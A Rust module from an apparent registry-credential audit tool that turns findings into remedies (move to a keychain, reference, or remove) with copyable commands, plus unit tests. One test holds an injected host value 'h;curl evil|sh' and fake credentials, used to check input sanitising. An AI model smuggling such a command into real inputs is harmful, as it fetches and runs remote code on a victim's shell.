//! What can be done about a finding: moved, replaced by a reference, or removed; and the command.

use std::path::Path;

use super::finding::{Finding, Kind};
use super::severity::signal;
use crate::text;

/// The rules of files whose readers ask a helper that the file names: `audit --fix` moves what these
/// find.
pub const MOVABLE: &[&str] = &["docker-config", "podman-auth", "helm-registry"];

/// What to do, in words and as a command to copy.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Remedy {
    /// The kind of remedy.
    pub class: Class,
    /// In words.
    pub words: String,
    /// A command that does it, or begins it.
    pub command: Option<String>,
}

/// The kinds of remedies.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Class {
    /// The program that reads it can ask a credential helper instead.
    Move,
    /// The program can read it from elsewhere: a variable, a secret store.
    Reference,
    /// It has to go, and the secret has to be replaced at the registry.
    Remove,
}

/// The entries of `auths` that `audit --fix` moves: the file and the key of each. None for what a
/// person has to see to.
pub fn movable(finding: &Finding) -> impl Iterator<Item = (&Path, String)> {
    let is_one = MOVABLE.contains(&finding.rule)
        && matches!(finding.kind, Kind::Auth | Kind::UserPass | Kind::IdentityToken)
        && !finding.signals.contains(&signal::BACKUP);
    let locations = finding.locations.iter().filter(move |_| is_one);
    locations.filter_map(|location| {
        let mut parts = location.pointer.strip_prefix("/auths/")?.split('/');
        let key = parts.next()?.replace("~1", "/").replace("~0", "~");
        parts.next().filter(|_| parts.next().is_none())?;
        Some((location.path.as_path(), key))
    })
}

/// Whether it lies in a copy of a file that `audit --fix` moves from, left behind by an editor, a
/// person or a writer that was killed.
#[must_use]
pub fn is_leftover(finding: &Finding) -> bool {
    let is_copy = finding.signals.contains(&signal::BACKUP) && MOVABLE.contains(&finding.rule);
    !finding.is_in_environment() && (is_copy || finding.rule == "docker-config-backup")
}

impl Class {
    /// Its stable name in reports.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Move => "yes",
            Self::Reference => "reference",
            Self::Remove => "no",
        }
    }
}

/// What to do about a finding.
#[must_use]
pub fn of(finding: &Finding) -> Remedy {
    if finding.signals.contains(&signal::BACKUP) {
        return without_command(Class::Remove, "delete this copy, and rotate the secret");
    }
    if finding.kind == Kind::RegistryToken {
        return without_command(Class::Remove, "remove it: no helper can keep a registry token");
    }
    // Nothing from a file but a plain host gets into a command that somebody copies.
    let is_plain = |b: u8| b.is_ascii_alphanumeric() || b".-:[]".contains(&b);
    let registry = match finding.registry.as_str() {
        registry if registry.bytes().all(is_plain) => registry,
        _ => "REGISTRY",
    };
    match finding.kind {
        Kind::History | Kind::Log => Remedy {
            class: Class::Remove,
            words: "delete the line, rotate the secret, and log in without it on the command line"
                .to_owned(),
            command: Some(format!("docker login {registry}")),
        },
        Kind::Env if finding.is_in_environment() => {
            without_command(Class::Reference, "set it only for the command that needs it")
        }
        Kind::Script => Remedy {
            class: Class::Reference,
            words: "read it from standard input".to_owned(),
            command: Some(format!("docker login --username USER --password-stdin {registry}")),
        },
        _ if MOVABLE.contains(&finding.rule) => by_move(finding),
        _ => by_rule(finding.rule),
    }
}

/// What `setup` does for Docker's own settings, and `migrate` for every file of their format.
fn by_move(finding: &Finding) -> Remedy {
    let Some((path, _)) = movable(finding).next() else {
        return without_command(Class::Remove, "log in with a helper, and remove it here");
    };
    let command = if path.ends_with(".docker/config.json") {
        "imgsec-cred setup".to_owned()
    } else {
        format!("imgsec-cred migrate --from {}", text::shell_word(&path.to_string_lossy()))
    };
    let words = "move it into the keychain".to_owned();
    Remedy { class: Class::Move, words, command: Some(command) }
}

fn by_rule(rule: &str) -> Remedy {
    let (class, words, command) = match rule {
        "kubelet-config" => {
            return without_command(
                Class::Reference,
                "let a credential provider of the kubelet answer instead",
            );
        }
        "apptainer-config" => {
            let words = "give it in APPTAINER_DOCKER_USERNAME and APPTAINER_DOCKER_PASSWORD for the \
                         one command, and remove it here";
            return without_command(Class::Remove, words);
        }
        "dockercfg" => (
            Class::Move,
            "keep it in the store; Docker reads this file no longer",
            "imgsec-cred migrate --from ~/.dockercfg".to_owned(),
        ),
        "regctl-config" | "regsync-config" => (
            Class::Move,
            "keep it with the helper, and name the helper for this host",
            "credHelper: docker-credential-imgsec".to_owned(),
        ),
        "nomad" => (
            Class::Move,
            "let the client ask the helper",
            "auth { helper = \"imgsec\" }".to_owned(),
        ),
        "gh-hosts" => (Class::Move, "let gh keep it in the keychain", "gh auth login".to_owned()),
        "ecr-cache" => (
            Class::Remove,
            "switch the cache off and delete the file",
            "AWS_ECR_DISABLE_CACHE=true".to_owned(),
        ),
        "gcr-store" => (
            Class::Remove,
            "let gcloud answer instead, and delete the file",
            "gcloud auth configure-docker".to_owned(),
        ),
        "ansible" => (Class::Reference, "encrypt it", "ansible-vault encrypt_string".to_owned()),
        "docker-proxies" | "daemon-proxy" | "service-proxy" => {
            return without_command(Class::Remove, "use a proxy that needs no password here");
        }
        "docker-headers" | "docker-plugins" | "containerd-hosts" | "netrc" => {
            return without_command(
                Class::Remove,
                "remove it, and replace the secret where it is from",
            );
        }
        _ if ["k8s-", "kustomize", "argocd", "openshift"].iter().any(|r| rule.starts_with(r)) => {
            let words = "seal it (SealedSecret, SOPS), or let External Secrets fetch it";
            return without_command(Class::Reference, words);
        }
        _ => {
            let words = "take it from a variable or a secret store of the system that runs this";
            return without_command(Class::Reference, words);
        }
    };
    Remedy { class, words: words.to_owned(), command: Some(command) }
}

fn without_command(class: Class, words: &str) -> Remedy {
    Remedy { class, words: words.to_owned(), command: None }
}

#[cfg(test)]
mod tests {
    use std::path::Path;
    use std::time::SystemTime;

    use super::*;
    use crate::audit::scan::{Facts, in_text};

    fn remedy(path: &str, text: &str) -> Remedy {
        let facts = Facts { now: SystemTime::now(), surroundings: Default::default() };
        let findings = in_text(Path::new(path), path, text, None, &facts);
        assert_eq!(findings.len(), 1, "{path}");
        of(&findings[0])
    }

    #[test]
    fn each_place_has_its_remedy() {
        let config = r#"{"auths":{"ghcr.io":{"auth":"YWRhOnMzY3JldC13b3Jk"}}}"#;
        let command = |path| remedy(path, config).command;
        assert_eq!(command("/h/.docker/config.json").as_deref(), Some("imgsec-cred setup"));
        let elsewhere = command("/a b/config.json");
        assert_eq!(elsewhere.as_deref(), Some("imgsec-cred migrate --from '/a b/config.json'"));
        let podman = command("/h/.config/containers/auth.json");
        let migrate = "imgsec-cred migrate --from /h/.config/containers/auth.json";
        assert_eq!(podman.as_deref(), Some(migrate));
        assert_eq!(command("/h/.docker/config.json.bak"), None);
        let history = remedy("/h/.bash_history", "docker login -u ada -p s3cret-word ghcr.io\n");
        assert_eq!(history.command.as_deref(), Some("docker login ghcr.io"));
        assert_eq!(history.class, Class::Remove);
    }

    #[test]
    fn no_text_of_a_file_gets_into_a_command() {
        let hostile = r#"{"auths":{"h;curl evil|sh":{"auth":"YWRhOnMzY3JldC13b3Jk"}}}"#;
        let remedy = remedy("/h/.config/containers/auth.json", hostile);
        assert!(!remedy.command.unwrap_or_default().contains("evil"));
    }
}
